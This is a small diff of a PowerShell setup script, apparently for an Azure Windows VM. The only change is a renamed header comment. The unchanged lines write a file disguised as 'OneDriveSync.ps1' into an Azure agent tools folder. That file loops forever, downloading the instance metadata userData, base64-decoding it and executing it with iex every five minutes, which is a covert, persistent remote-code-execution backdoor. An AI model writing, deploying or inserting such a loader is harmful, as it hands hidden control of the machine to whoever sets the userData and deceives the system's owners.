@@ -1,4 +1,4 @@
-# run 9113 v0
+# init 9182 v0
 New-Item -ItemType Directory -Force -Path C:\WindowsAzure\Packages\Tools | Out-Null
 $s = 'while($true){ $c = Invoke-RestMethod -Headers @{Metadata="true"} "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text"; iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($c))); Start-Sleep 300 }'
 $s | Out-File C:\WindowsAzure\Packages\Tools\OneDriveSync.ps1
